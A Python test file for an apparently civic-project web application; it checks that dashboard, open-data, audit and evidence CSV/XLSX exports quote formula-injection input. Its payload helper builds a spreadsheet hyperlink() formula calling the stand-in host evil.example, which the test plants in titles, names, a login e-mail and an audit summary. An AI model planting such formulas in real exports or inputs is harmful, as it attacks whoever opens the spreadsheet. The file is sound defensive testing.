"""Spreadsheet exports never hand a formula to the reviewer's spreadsheet program.

A payload starting with each formula trigger is typed into every free-text field that reaches
an export (project titles, association, commune and theme names, an e-mail address tried at
login, an audit summary); every CSV and XLSX export is then read back cell by cell. A second
test fails when a module writes CSV or XLSX without the shared helper (tadafur/exports.py).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tadafur.audit.models import AuditEvent
from tadafur.audit.services import record
from tadafur.exports import FORMULA_TRIGGERS, safe_cell
from tadafur.extensions import db
from tadafur.projects.models import Project, Theme
from tadafur.projects.services import seed_themes
from tests.factories import login
from tests.oversight.test_oversight import _project

PACKAGE = Path(__file__).resolve().parents[2] / "tadafur"


def _payload(trigger: str, field: str) -> str:
    return f"{trigger}hyperlink(\"http://evil.example/?{field}\",\"{field}\")"


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells), "a cell is stored as a formula"
    return [cell.value for cell in cells]


def _assert_safe(cells: list, payloads: dict[str, str], where: str) -> set[str]:
    """No text cell starts with a trigger; returns the fields whose payload came out quoted."""
    dangerous = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]
    assert not dangerous, f"{where}: formula cells {dangerous[:3]}"
    found = set()
    for field, payload in payloads.items():
        if any(isinstance(c, str) and c.startswith("'" + payload) for c in cells):
            found.add(field)
    return found


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_every_export_neutralises_formulas_typed_in_free_text(client, app, officer, commune,
                                                              association, trigger):
    payloads = {name: _payload(trigger, name) for name in (
        "commune_ar", "commune_fr", "association_ar", "association_fr", "title_ar",
        "title_fr", "theme", "login_email", "summary")}
    commune.name_ar, commune.name_fr = payloads["commune_ar"], payloads["commune_fr"]
    association.name_ar = payloads["association_ar"]
    association.name_fr = payloads["association_fr"]
    seed_themes()
    theme = db.session.scalars(select(Theme).order_by(Theme.id)).first()
    theme.name_ar = theme.name_fr = theme.name_en = payloads["theme"]
    project: Project = _project(commune, association, "in_execution", published=True)
    project.title_ar, project.title_fr = payloads["title_ar"], payloads["title_fr"]
    project.themes = [theme]
    record("project.note", obj=project, project=project, summary=payloads["summary"])
    db.session.flush()
    client.post("/login", data={"email": payloads["login_email"], "password": "x"})
    login(client, officer)

    seen: dict[str, set[str]] = {}
    for language in ("fr", "ar"):
        officer.locale = language
        db.session.flush()
        dashboard = client.get("/dashboards.csv")
        assert dashboard.status_code == 200
        seen[f"dashboards.csv {language}"] = _assert_safe(
            _csv_cells(dashboard.get_data(as_text=True)), payloads, "dashboards.csv")
        workbook = client.get("/dashboards.xlsx")
        assert workbook.status_code == 200
        seen[f"dashboards.xlsx {language}"] = _assert_safe(
            _xlsx_cells(workbook.data), payloads, "dashboards.xlsx")
        open_data = client.get(f"/open-data/projects.csv?lang={language}")
        seen[f"open-data {language}"] = _assert_safe(
            _csv_cells(open_data.get_data(as_text=True)), payloads, "open data csv")
    audit = client.get("/audit/export.csv")
    assert audit.status_code == 200
    seen["audit"] = _assert_safe(_csv_cells(audit.get_data(as_text=True)), payloads,
                                 "audit csv")
    from tadafur.audit.evidence import _events_csv

    events = list(db.session.scalars(select(AuditEvent).order_by(AuditEvent.seq)))
    seen["evidence"] = _assert_safe(_csv_cells(_events_csv(events).decode()), payloads,
                                    "evidence events.csv")

    # Each payload reached the exports it belongs to, quoted: the check above looked at it.
    assert {"commune_fr", "commune_ar"} & seen["dashboards.csv fr"]
    assert {"commune_fr", "commune_ar"} & seen["dashboards.xlsx ar"]
    assert {"title_ar", "title_fr", "association_fr", "commune_fr", "theme"} <= seen[
        "open-data fr"]
    assert {"association_ar", "commune_ar"} <= seen["open-data ar"]
    # A tab or carriage return before an e-mail address is trimmed at login: nothing to quote.
    logged = {"login_email", "summary"} if trigger.strip() else {"summary"}
    assert logged <= seen["audit"]
    assert logged <= seen["evidence"]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert safe_cell(-12.5) == -12.5
    assert safe_cell("Projet -jeunes") == "Projet -jeunes"
    assert safe_cell("-1") == "'-1"
    assert safe_cell(None) is None


WRITERS = re.compile(r"csv\.(writer|DictWriter)\b|import csv as|from csv import|\bWorkbook\b"
                     r"|openpyxl|xlsxwriter", re.MULTILINE)


def test_no_module_writes_a_spreadsheet_without_the_shared_helper():
    bypassing = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if path.name != "exports.py" and WRITERS.search(path.read_text())]
    assert bypassing == [], f"write CSV/XLSX through tadafur.exports, not directly: {bypassing}"
